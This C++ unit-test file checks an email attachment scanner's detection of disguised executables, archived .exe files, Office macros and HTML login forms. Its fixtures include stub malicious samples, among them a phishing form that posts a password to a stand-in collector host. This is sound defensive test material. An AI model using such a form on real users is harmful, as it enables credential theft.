// SPDX-License-Identifier: Apache-2.0
#include "attachments/attachment_analysis.h"

#include <gtest/gtest.h>

#include <zip.h>

#include <algorithm>
#include <filesystem>

#include "base/base64.h"
#include "message/parser.h"

namespace mikiwame::attachments {
namespace {

std::string mail_with(const std::string& name, const std::string& type, const std::string& bytes) {
    return "From: a@example.com\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
           "--b\r\nContent-Type: " + type + "; name=\"" + name + "\"\r\nContent-Disposition: attachment; filename=\"" + name +
           "\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base::encode_base64(bytes) + "\r\n--b--\r\n";
}

// The shipped extension lists of data/lists/.
const AttachmentLists& shipped_lists() {
    static const AttachmentLists lists = [] {
        auto loaded = AttachmentLists::load(std::filesystem::path(MIKIWAME_SOURCE_DIR) / "data");
        if (!loaded) {
            ADD_FAILURE() << loaded.error().message << " at " << loaded.error().context;
            return AttachmentLists{};
        }
        return std::move(loaded).value();
    }();
    return lists;
}

AttachmentFacts run(const std::string& raw) {
    return analyze_attachments(message::parse_message(raw, Limits{}), shipped_lists(), Limits{});
}

bool has(const AttachmentFacts& f, std::string_view id) {
    return std::any_of(f.hits.begin(), f.hits.end(), [&](const auto& h) { return h.id == id; });
}

std::string make_zip(const std::vector<std::string>& names) {
    zip_error_t error;
    zip_error_init(&error);
    zip_source_t* src = zip_source_buffer_create(nullptr, 0, 0, &error);
    zip_source_keep(src);
    zip_t* z = zip_open_from_source(src, ZIP_TRUNCATE, &error);
    for (const auto& n : names) {
        zip_source_t* s = zip_source_buffer(z, "x", 1, 0);
        zip_file_add(z, n.c_str(), s, ZIP_FL_OVERWRITE);
    }
    zip_close(z);
    zip_source_open(src);
    zip_source_seek(src, 0, SEEK_END);
    zip_int64_t size = zip_source_tell(src);
    zip_source_seek(src, 0, SEEK_SET);
    std::string out(static_cast<std::size_t>(size), '\0');
    zip_source_read(src, out.data(), static_cast<zip_uint64_t>(size));
    zip_source_close(src);
    zip_source_free(src);
    zip_error_fini(&error);
    return out;
}

TEST(Attachments, ExecutableByContentAndByDoubleExtension) {
    std::string pe = "MZ\x90" + std::string(60, '\0') + "PE";
    EXPECT_TRUE(has(run(mail_with("invoice.pdf", "application/pdf", pe)), "attachment.executable"));
    EXPECT_TRUE(has(run(mail_with("invoice.pdf.js", "application/octet-stream", "var x=1;")), "attachment.executable"));
    EXPECT_FALSE(has(run(mail_with("invoice.pdf", "application/pdf", "%PDF-1.4\n%...")), "attachment.executable"));
}

TEST(Attachments, ArchiveListingFindsExecutablesWithoutExtracting) {
    EXPECT_TRUE(has(run(mail_with("docs.zip", "application/zip", make_zip({"readme.txt", "scan.exe"}))), "attachment.archive_executable"));
    EXPECT_FALSE(has(run(mail_with("photos.zip", "application/zip", make_zip({"a.jpg", "b.pdf"}))), "attachment.archive_executable"));
    // A broken archive is listed as nothing, not a crash.
    EXPECT_FALSE(has(run(mail_with("broken.zip", "application/zip", "PK\x03\x04garbage")), "attachment.archive_executable"));
}

TEST(Attachments, MacrosInOoxmlAndOle) {
    EXPECT_TRUE(has(run(mail_with("report.docm", "application/octet-stream", make_zip({"word/document.xml", "word/vbaProject.bin"}))),
                    "attachment.macro"));
    std::string ole = std::string("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8) + std::string(100, '\0') + "_VBA_PROJECT";
    EXPECT_TRUE(has(run(mail_with("old.doc", "application/msword", ole)), "attachment.macro"));
    EXPECT_FALSE(has(run(mail_with("plain.docx", "application/octet-stream", make_zip({"word/document.xml"}))), "attachment.macro"));
}

TEST(Attachments, HtmlLoginFormEvenWhenNotLabelledHtml) {
    std::string page = "<html><form action='https://collect.example/p.php'><input type=password name=p></form></html>";
    EXPECT_TRUE(has(run(mail_with("INV.html", "application/octet-stream", page)), "attachment.html_form"));
    EXPECT_FALSE(has(run(mail_with("receipt.html", "text/html", "<html><p>Thank you</p></html>")), "attachment.html_form"));
}

TEST(Attachments, EmptyPartIsListedWithoutFindings) {
    AttachmentFacts f = run(mail_with("empty.bin", "application/octet-stream", ""));
    ASSERT_EQ(f.attachments.size(), 1u);
    EXPECT_TRUE(f.hits.empty());
}

} // namespace
} // namespace mikiwame::attachments
